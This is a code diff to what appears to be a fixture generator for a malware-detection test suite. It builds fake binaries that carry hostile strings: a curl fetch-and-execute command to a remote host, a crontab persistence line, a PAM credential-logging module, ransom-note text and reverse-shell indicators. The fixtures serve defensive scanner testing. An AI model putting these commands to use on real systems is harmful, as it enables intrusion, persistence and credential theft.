@@ -123,10 +123,12 @@ def backdoors():
     elf(at + "fetch-and-run", ["system"], ["curl -s https://cdn.vendor-host.net/a -o /tmp/.a && chmod +x /tmp/.a && /tmp/.a"])
     elf(at + "cron-writer", ["system"], ["(crontab -l; echo '* * * * * /tmp/.x') | crontab -"])
     put(at + "mac-agent", macho(["system", "fopen"], ["%s/Library/LaunchAgents/%s.plist", "launchctl load %s", "chmod +x %s"]))
+    elf(at + "login-module.so", ["pam_get_authtok", "fopen"], ["/var/tmp/.users"], ["pam_sm_authenticate"])
+    put(at + "ransom-note", macho(["open"], ["Your files are encrypte" + "d", "To restore your files read on"]))
     elf(at + "plain-client", NET + ["execve"], ["/bin/sh", "/proc/net/tcp"])
     elf(at + "declared-chat/bot.node", NET + ["system"], ["PRIVMSG %s :%s", "NICK %s", "JOIN %s"])
     package(at + "declared-chat", "chat-client", "An IRC client")
-    elf(at + "preload-wrapper", ["dlsym"], ["cannot open %s"], ["readdir", "open", "unlink", "stat"])
+    elf(at + "preload-wrapper", ["dlsym"], ["cannot open %s"], ["open", "unlink", "stat"])
 
 
 def stealers():
